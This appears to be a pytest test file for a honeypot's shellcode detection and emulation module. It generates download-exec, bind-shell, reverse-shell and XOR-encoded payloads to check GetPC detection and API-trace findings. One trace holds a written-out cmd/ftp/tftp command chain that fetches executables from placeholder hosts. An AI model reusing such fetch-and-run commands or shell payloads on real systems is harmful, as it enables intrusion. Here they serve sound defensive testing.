"""Shellcode detection (on the loop), the worker on real shellcode, findings and limits."""

from __future__ import annotations

import asyncio
import json
import os
import random
import time
from pathlib import Path
from typing import Any

import pytest

from muscipula.capture.shellcode import Emulator, detect, pool
from muscipula.capture.shellcode.profile import findings
from muscipula.config import Shellcode
from muscipula.incidents import Connection
from muscipula.store import Store
from muscipula.transcripts import pack
from tests.unit.shellcode_samples import (
    api_flood,
    assemble,
    bind_shell,
    download_exec,
    infinite_loop,
    reverse_shell,
    reverse_stager,
    xor_fnstenv,
    xor_jmp_call_pop,
)

URL = "http://198.51.100.7/dl/x.exe"
DOWNLOAD = assemble(download_exec(URL))
HTTP = (b"GET /index.html?q=1 HTTP/1.1\r\nHost: example.org\r\nUser-Agent: Mozilla/5.0 "
        b"(Windows NT 10.0; Win64; x64)\r\nAccept: */*\r\nCookie: a=b; c=d\r\n\r\n")
#: an SMB1 negotiate request as clients send it (NBT header, dialect strings)
SMB_NEGOTIATE = bytes.fromhex(
    "00000054ff534d4272000000001843c80000000000000000000000000000fffe0000"
    "0000003100025043204e4554574f524b2050524f4752414d20312e3000024c414e4d"
    "414e312e30000257696e646f777320666f7220576f726b67726f75707320332e3161"
    "00024c4d312e325830303200024c414e4d414e322e3100024e54204c4d20302e3132"
    "00")


class Recorder:
    """The bus as the emulator sees it: incidents kept in order."""

    def __init__(self) -> None:
        self.incidents: list[tuple[str, int, dict[str, Any]]] = []

    def emit(self, name: str, conn: int = 0, fields: dict[str, Any] | None = None,
             now: float | None = None) -> None:
        self.incidents.append((name, conn, dict(fields or {})))

    def named(self, name: str) -> list[dict[str, Any]]:
        return [f for n, _c, f in self.incidents if n == name]


def transcript(*inbound: bytes, reply: bytes = b"") -> bytearray:
    buf = bytearray()
    for i, data in enumerate(inbound):
        pack(buf, float(i), 0, data)
        if reply:
            pack(buf, float(i), 1, reply)
    return buf


def conn(cid: int = 7) -> Connection:
    return Connection(cid, "tcp", "blackhole", "accept", "127.0.0.1", 23, "127.0.0.9", 40000,
                      "blackhole")


def job(data: bytes, timeout: float = 5.0, max_api_calls: int = 5000) -> dict[str, Any]:
    found = detect.candidates(data, 8)
    assert found, "no GetPC found"
    windows = detect.windows(data, [0], found, 65536)
    out = pool.run(pool.context(), [(w.data, list(w.entries)) for w in windows],
                   timeout, max_api_calls, 60.0)
    assert not out.error, out.error
    return out.results[0]


# ------------------------------------------------------------------ detection

@pytest.mark.parametrize("sample", [
    DOWNLOAD, assemble(bind_shell()), assemble(reverse_shell("192.0.2.1", 80)),
    xor_fnstenv(DOWNLOAD), xor_jmp_call_pop(DOWNLOAD), assemble(infinite_loop())])
def test_detect_finds_getpc_in_each_payload(sample: bytes) -> None:
    data = HTTP + sample
    found = detect.candidates(data, 8)
    assert found and all(f >= len(HTTP) for f in found)
    assert detect.maybe(data)  # the quick look that lets the others pass lets this in


def test_the_quick_look_lets_ordinary_traffic_pass() -> None:
    assert not detect.maybe(HTTP * 100) and not detect.maybe(SMB_NEGOTIATE)
    assert not detect.maybe(Path(__file__).read_bytes())


def test_detect_idioms() -> None:
    assert detect.candidates(b"AAAA\xe8\x00\x00\x00\x00\x5d", 8) == [4]  # call $+5; pop ebp
    assert detect.candidates(b"\xe8\xff\xff\xff\xff\xc2\x5f", 8) == [0]  # call $+4
    # fldz; fnstenv [esp-0xc]: the candidate is the FPU instruction
    assert detect.candidates(b"\x90\x90\xd9\xee\xd9\x74\x24\xf4\x5b", 8) == [2]
    # fnstenv without an FPU instruction before it is not a GetPC
    assert detect.candidates(b"\x90" * 20 + b"\xd9\x74\x24\xf4", 8) == []
    # jmp-call-pop: the call lands on a pop
    assert detect.candidates(b"\xeb\x01\x5e\xe8\xfa\xff\xff\xff", 8) == [3]
    # a backward call landing elsewhere is not
    assert detect.candidates(b"\xeb\x01\x41\xe8\xfa\xff\xff\xff", 8) == []


def test_detect_negatives_random_http_smb() -> None:
    rng = random.Random(1)
    noise = bytes(rng.getrandbits(8) for _ in range(1 << 20))
    assert len(detect.candidates(noise, 100)) <= 1
    assert detect.candidates(HTTP * 100, 8) == []
    assert detect.candidates(SMB_NEGOTIATE, 8) == []
    text = Path(__file__).read_bytes()
    assert detect.candidates(text, 8) == []


def test_inbound_only_and_max_scan_bytes() -> None:
    buf = transcript(HTTP, DOWNLOAD, reply=DOWNLOAD)
    data, starts = detect.inbound(buf, 1 << 20)
    assert data == HTTP + DOWNLOAD and starts == [0, len(HTTP)]
    data, _ = detect.inbound(transcript(HTTP, reply=DOWNLOAD), 1 << 20)
    assert detect.candidates(data, 8) == []  # what the server sent is not scanned
    data, _ = detect.inbound(buf, len(HTTP) + 4)
    assert len(data) == len(HTTP) + 4 and detect.candidates(data, 8) == []


def test_max_candidates() -> None:
    data = b"\xe8\x00\x00\x00\x00\x58\x90\x90" * 50
    assert len(detect.candidates(data, 3)) == 3
    assert len(detect.candidates(data, 100)) == 50


def test_windows_start_at_the_chunk() -> None:
    data = HTTP + b"\x31\xc9" + b"\xe8\x00\x00\x00\x00\x58"
    found = detect.candidates(data, 8)
    [w] = detect.windows(data, [0, len(HTTP)], found, 1000)
    assert w.start == len(HTTP) and w.entries == (2, 0)
    [w] = detect.windows(data, [0, len(HTTP)], found, 4)
    assert len(w.data) == 4


def test_scan_cost_without_shellcode() -> None:
    """A typical HTTP connection costs microseconds (the figure is in the report)."""
    emu = Emulator.__new__(Emulator)
    emu.cfg, emu.scanned, emu.detected, emu._looked = Shellcode(), 0, 0, {}
    buf = transcript(HTTP, reply=b"HTTP/1.1 200 OK\r\nContent-Length: 5000\r\n\r\n" + b"x" * 5000)
    n = 2000
    t = time.perf_counter()
    for _ in range(n):
        emu.scan(conn(), buf)
    per = (time.perf_counter() - t) / n * 1e6
    assert emu.detected == 0 and emu.scanned == n
    assert per < 100, f"{per:.1f} µs per scan"


# ------------------------------------------------------------------ findings

def test_findings_from_traces() -> None:
    trace = [
        {"call": "InternetOpenA", "args": ["ua"], "return": "0x10"},
        {"call": "InternetConnectA", "args": ["0x10", "203.0.113.5", "8080"], "return": "0x20"},
        {"call": "HttpOpenRequestA", "args": ["0x20", "GET", "/p.exe", "0", "0", "0", "0",
                                              "0x0"], "return": "0x30"},
        {"call": "WinHttpConnect", "args": ["0x1", "dl.example.net", "443", "0"],
         "return": "0x40"},
        {"call": "WinHttpOpenRequest", "args": ["0x40", "GET", "a/b.bin", "0", "0", "0",
                                                "0x800000"], "return": "0x50"},
        {"call": "WinExec", "args": [
            "cmd /c echo open 203.0.113.9 2121>o&echo user u p>>o&echo get m.exe>>o&"
            "ftp -s:o&tftp -i 203.0.113.10 GET t.exe", "0"], "return": "0x20"},
        {"call": "socket", "args": ["AF_INET"], "return": "0x4"},
        {"call": "bind", "args": ["0x4", "0.0.0.0:1337", "0x10"], "return": "0x0"},
        {"call": "listen", "args": ["0x4", "0x1"], "return": "0x0"},
        {"call": "connect", "args": ["0x5", "198.51.100.2:4443", "0x10"], "return": "0x0"},
    ]
    f = findings(trace)
    assert f.offers[:3] == ["http://203.0.113.5:8080/p.exe", "https://dl.example.net/a/b.bin",
                            "ftp://u:p@203.0.113.9:2121/m.exe"]
    assert "tftp://203.0.113.10/t.exe" in f.offers
    assert f.services == ["bindshell://1337", "connectbackshell://198.51.100.2:4443"]


def test_findings_ignore_pointers_and_plain_runs() -> None:
    f = findings([{"call": "URLDownloadToFileA", "args": ["0x0", "0x401000"], "return": "0"},
                  {"call": "WinExec", "args": ["calc.exe", "1"], "return": "0x20"}])
    assert f.offers == [] and f.services == [] and f.commands == ["calc.exe"]


# ------------------------------------------------------------------ the worker

def test_worker_download_exec() -> None:
    r = job(HTTP + DOWNLOAD)
    calls = [p["call"] for p in r["profile"]]
    assert calls[:3] == ["LoadLibraryA", "URLDownloadToFileA", "WinExec"]
    assert r["profile"][1]["args"][1] == URL
    assert r["offers"] == [URL] and r["services"] == []


def test_worker_bind_shell() -> None:
    r = job(assemble(bind_shell(4444)))
    calls = [p["call"] for p in r["profile"]]
    for name in ("WSAStartup", "WSASocketA", "bind", "listen", "accept", "CreateProcessA"):
        assert name in calls
    assert r["services"] == ["bindshell://4444"] and r["offers"] == []
    assert r["shells"] == ["bindshell://4444"]  # cmd.exe ran on the socket


def test_worker_reverse_shell() -> None:
    r = job(assemble(reverse_shell("192.0.2.77", 8443)))
    assert "connect" in [p["call"] for p in r["profile"]]
    assert r["services"] == ["connectbackshell://192.0.2.77:8443"]
    assert r["offers"] == []  # a shell, not a stager: nothing to fetch
    assert r["shells"] == ["connectbackshell://192.0.2.77:8443"]


def test_worker_stager_offers_its_handler_for_the_stage() -> None:
    r = job(assemble(reverse_stager("192.0.2.50", 4444)))
    calls = [p["call"] for p in r["profile"]]
    assert calls[-4:] == ["connect", "recv", "VirtualAlloc", "recv"]
    assert r["services"] == ["connectbackshell://192.0.2.50:4444"]
    assert r["offers"] == ["tcp://192.0.2.50:4444/"]
    assert r["shells"] == []  # it ran what it read, no process


@pytest.mark.parametrize("encode", [xor_fnstenv, xor_jmp_call_pop])
def test_worker_xor_decoder_reveals_the_url(encode: Any) -> None:
    payload = encode(DOWNLOAD)
    assert URL.encode() not in payload  # only emulation can find it
    r = job(b"\x00\x01garbage" + payload)
    assert r["offers"] == [URL]


def test_worker_max_api_calls() -> None:
    r = job(assemble(api_flood()), max_api_calls=40)
    assert 30 <= len(r["profile"]) <= 41
    assert {p["call"] for p in r["profile"]} == {"GetTickCount"}
    assert r["error"] == "max_api_count"


def test_worker_timeout_on_an_endless_loop() -> None:
    t = time.monotonic()
    r = job(assemble(infinite_loop()), timeout=1.0)
    assert r["profile"] == [] and time.monotonic() - t < 15


def test_hard_deadline_kills_the_worker() -> None:
    """A worker that does not answer in time is killed, and says so."""
    t = time.monotonic()
    windows = [(assemble(infinite_loop()), [0])]
    out = pool.run(pool.context(), windows, 30.0, 100, 1.5)
    assert out.killed and out.results == [] and time.monotonic() - t < 10


# ------------------------------------------------------------------ the emulator

def run_emulator(cfg: Shellcode, tmp: Path, transcripts: list[bytearray]
                 ) -> tuple[Emulator, Recorder]:
    bus = Recorder()
    store = Store(tmp / "binaries", 1 << 20, 1 << 24)

    async def main() -> Emulator:
        emu = Emulator(cfg, store, bus)  # type: ignore[arg-type]
        for i, t in enumerate(transcripts):
            emu.scan(conn(100 + i), t)
        await emu.close()
        return emu

    return asyncio.run(main()), bus


def test_emulator_records_and_offers(tmp_path: Path) -> None:
    emu, bus = run_emulator(Shellcode(), tmp_path, [
        transcript(HTTP), transcript(b"\x00" * 10, xor_fnstenv(DOWNLOAD))])
    [det] = bus.named("shellcode.detected")
    assert det["size"] == len(xor_fnstenv(DOWNLOAD))
    [stored] = bus.named("download.complete")
    assert stored["url"] == "shellcode://127.0.0.9/10"
    assert Path(stored["path"]).read_bytes() == xor_fnstenv(DOWNLOAD)
    [profile] = bus.named("emu.profile")
    assert json.loads(profile["profile"])[1]["call"] == "URLDownloadToFileA"
    assert bus.named("download.offer") == [{"url": URL, "source": "shellcode"}]
    assert {c for n, c, _f in bus.incidents} == {101}
    assert emu.scanned == 2 and emu.detected == 1 and emu.pending == 0


def test_emulator_max_pending(tmp_path: Path) -> None:
    cfg = Shellcode(workers=1, max_pending=1, timeout=1.0)
    sample = transcript(assemble(reverse_shell("192.0.2.1", 99)))
    emu, bus = run_emulator(cfg, tmp_path, [sample] * 4)
    assert emu.dropped == 2
    assert len(bus.named("shellcode.detected")) == 4
    assert len(bus.named("emu.service")) == 2


def test_config_defaults() -> None:
    cfg = Shellcode()
    assert cfg.max_shellcode_bytes == 65536 and cfg.max_candidates == 8
    assert os.cpu_count()  # the pool needs at least one core


def test_crafted_hits_cost_bounded_time() -> None:
    """1 MiB of calls that look backward but land on nothing: a bounded number examined."""
    data = b"\xe8\x00\xf8\xff\xff" * (1 << 18)
    t = time.perf_counter()
    assert detect.candidates(data, 8) == []
    assert time.perf_counter() - t < 0.05
